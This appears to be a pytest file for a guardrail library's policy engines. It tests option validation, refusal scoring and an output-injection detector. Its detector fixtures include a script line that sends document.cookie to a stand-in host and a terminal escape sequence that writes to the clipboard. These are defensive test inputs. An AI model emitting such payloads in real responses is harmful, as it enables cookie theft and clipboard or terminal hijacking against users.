"""What a policy sets is checked, and an engine that needs it says when it is absent."""

from __future__ import annotations

from typing import Any

import pytest

from core.analysis import Content, Outcome
from core.errors import ConfigError
from engines.catalogue import catalogue
from engines.document import Document

CONTENT = Content(text="a", response="a")

WRONG: list[tuple[str, dict[str, Any], str]] = [
    ("topic_policy", {"deny": "betting"}, "`deny` must be a list"),
    ("topic_policy", {"deny": ["bet", 7]}, "`deny[1]` must be a text"),
    ("topic_policy", {"deny": [" "]}, "`deny[0]` must be a text"),
    ("topic_policy", {"deny": ["bet.*"]}, "no regular expressions"),
    ("topic_policy", {"deny": ["be*t"]}, "a star"),
    ("topic_policy", {"deny": ["!!"]}, "holds no word"),
    ("topic_policy", {"denied": ["bet"]}, "did you mean 'deny'?"),
    ("topic_policy", {"deny": ["bet"], "score": 2}, "`score` must be a number from 0 to 1"),
    ("topic_policy", {"deny": ["bet"] * 201}, "at most 200 entries"),
    ("language_policy", {"languages": ["english"]}, "`languages` has 'english'"),
    ("language_policy", {"languages": [False]}, "`languages[0]` must be a text"),
    ("language_policy", {"scripts": ["Latn"]}, "did you mean 'Latin'?"),
    ("canary_token", {"tokens": ["abc"]}, "`tokens[0]` must be a text of 6 to 200"),
    ("denial_of_wallet", {"max_characters": True}, "a whole number"),
    ("denial_of_wallet", {"max_characters": 0}, "a whole number"),
]


@pytest.mark.parametrize(("engine", "options", "message"), WRONG)
def test_an_option_of_the_wrong_kind_says_what_to_mend(
    engine: str, options: dict[str, Any], message: str
) -> None:
    with pytest.raises(ConfigError) as problem:
        catalogue()[engine].analyze(Document(CONTENT, {engine: options}))
    assert message in str(problem.value)


@pytest.mark.parametrize("engine", ["topic_policy", "language_policy", "canary_token"])
@pytest.mark.parametrize("options", [{}, {"deny": []}, {"languages": []}, {"tokens": []}])
def test_an_engine_without_its_option_gives_no_answer(engine: str, options: dict[str, Any]) -> None:
    known = {"topic_policy": "deny", "language_policy": "languages", "canary_token": "tokens"}
    own = {key: value for key, value in options.items() if key == known[engine]}
    result = catalogue()[engine].analyze(Document(CONTENT, {engine: own}))
    assert result.outcome is Outcome.UNSUPPORTED


def test_what_the_policy_gives_scores_as_it_says() -> None:
    options = {"topic_policy": {"deny": ["betting"], "score": 0.9}}
    result = catalogue()["topic_policy"].analyze(Document(Content(text="Let us bet."), options))
    assert [finding.score for finding in result.findings] == [0.9]


def test_a_refusal_stays_below_every_threshold() -> None:
    said = Content(response="I'm sorry, but as an AI I can't help; it is against my guidelines.")
    result = catalogue()["refusal"].analyze(Document(said))
    assert max(finding.score for finding in result.findings) <= 0.25


SCRIPT = "<script>let a = 1;</script>"
PLACES = [
    ("", SCRIPT, 0.65),
    ("Write a script that counts.", SCRIPT, 0.4),
    ("", f"```html\n{SCRIPT}\n```", 0.45),
    ("Write a script that counts.", f"```html\n{SCRIPT}\n```", 0.2),
    ("Write a script that counts.", "<script>fetch('//x/?'+document.cookie)</script>", 0.85),
    ("", "```\n\x1b]52;c;cm0=\x07\n```", 0.75),
]


@pytest.mark.parametrize(("text", "response", "score"), PLACES)
def test_a_payload_weighs_by_its_place_and_by_what_was_asked(
    text: str, response: str, score: float
) -> None:
    document = Document(Content(text=text, response=response))
    findings = catalogue()["output_injection"].analyze(document).findings
    assert findings[0].score == score
